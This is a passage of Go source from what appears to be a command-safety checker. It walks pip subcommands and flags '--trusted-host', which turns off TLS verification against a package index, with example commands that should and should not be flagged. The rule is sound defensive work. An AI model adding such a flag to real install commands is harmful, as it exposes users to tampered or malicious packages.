			trusted = trusted || strings.Contains(r.With, "--trusted-host")
		}
		if !trusted {
			c.Raises = append(c.Raises, Raise{Kind: danger.SecurityDisable, With: "--trusted-host", Medium: true, Why: "{prog} talks to a package index without TLS verification",
				Flagged: []string{"pip" + path + " --trusted-host pypi.x.example", "pip --trusted pypi.x.example" + path}, Passes: []string{"pip" + path + " --no-input"}})
		}
		for name, sub := range c.Subcommands {
			walk(sub, path+" "+name)
		}
	}
	walk(s, "")
	return s
}

func withSubs(m, more map[string]*Spec) map[string]*Spec {
	maps.Copy(m, more)
	return m
}
